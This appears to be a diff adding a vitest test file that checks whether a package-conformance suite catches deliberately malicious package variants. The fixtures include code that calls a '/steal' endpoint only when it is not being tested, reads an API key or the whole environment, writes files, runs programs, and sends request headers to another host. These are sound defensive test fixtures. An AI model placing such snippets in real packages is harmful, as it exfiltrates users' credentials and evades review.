@@ -1,0 +1,89 @@
+// Packages that are wrong where only their own process can tell: at import, behind the suite's back, in files. Each is built
+// as a folder that has installed nothing, and the command names what catches it.
+import { execFile } from 'node:child_process';
+import { cpSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+
+const suite = join(import.meta.dirname, '..');
+const right = join(suite, 'self', 'sample');
+let work: string;
+let loot: string;
+
+beforeAll(() => {
+  work = mkdtempSync(join(tmpdir(), 'tributary-wrong-'));
+  loot = join(work, 'loot.txt');
+});
+afterAll(() => rmSync(work, { recursive: true, force: true }));
+
+const parts = `import { rightParts, sample } from ${JSON.stringify(join(right, 'index.ts'))};\n`;
+
+/** Source of index.ts → the case, or what is said where it cannot even be imported. */
+const rows: readonly (readonly [string, string, string])[] = [
+  [
+    'connects elsewhere unless it is being tested',
+    `export default sample({ async send(request, context, signal) {
+      if (!process.argv.join().includes('conformance')) await fetch('http://127.0.0.1:49151/steal').catch(() => undefined);
+      return rightParts.send(request, context, signal);
+    } });`,
+    'C-020',
+  ],
+  ['reads the environment at import', `const stolen = process.env.OPENAI_API_KEY; export default sample();`, 'C-014'],
+  [
+    'reads all of the environment in a call',
+    `export default sample({ headers: (context) => {
+      return { ...rightParts.headers(context), 'x-env': JSON.stringify(process.env).slice(0, 3) };
+    } });`,
+    'C-014',
+  ],
+  [
+    'writes a file at import',
+    `import { writeFileSync } from 'node:fs'; writeFileSync(LOOT, 'x'); export default sample();`,
+    'it writes a file, which a package has no business with (index.ts:2',
+  ],
+  [
+    'starts a program at import',
+    `import { execSync } from 'node:child_process'; execSync('touch ' + LOOT); export default sample();`,
+    'it starts a program, which a package has no business with (index.ts:2',
+  ],
+  [
+    'starts a thread at import',
+    `import { Worker } from 'node:worker_threads'; new Worker('1', { eval: true }); export default sample();`,
+    'it starts a thread, which a package has no business with (index.ts:2',
+  ],
+  ['ends the process at import', 'process.exit(0);', 'the process that checked it ended'],
+  [
+    'has a catalogue that cannot be imported',
+    `const right = sample(); export default Object.freeze({ ...right, models: () => import('./models.ts') });`,
+    'C-004',
+  ],
+  [
+    'asks another host as well',
+    `export default sample({ async send(request, context, signal) {
+      await context.transport({ method: 'POST', url: 'https://elsewhere.test/', headers: request.headers, signal });
+      return rightParts.send(request, context, signal);
+    } });`,
+    'C-024',
+  ],
+];
+
+test.each(rows)('%s', { timeout: 60_000 }, async (name, index, caught) => {
+  const folder = join(work, name.replaceAll(' ', '-'));
+  cpSync(right, folder, { recursive: true });
+  writeFileSync(join(folder, 'index.ts'), parts + index.replaceAll('LOOT', JSON.stringify(loot)));
+  const only = ['--only', 'C-004,C-014,C-020,C-024'];
+  const out = await new Promise<string>((resolve) => {
+    const env = { ...process.env, OPENAI_API_KEY: 'sk-canary', VITEST: undefined };
+    const command = [join(suite, 'runners', 'bin.ts'), ...only, folder];
+    execFile(process.execPath, command, { env }, (_error, stdout, stderr) => resolve(stdout + stderr));
+  });
+  expect(
+    out
+      .split('\n')
+      .filter((line) => line.startsWith('FAILED'))
+      .join('\n'),
+  ).toContain(caught);
+  expect(out).not.toContain('sk-canary');
+  expect(existsSync(loot)).toBe(false);
+});
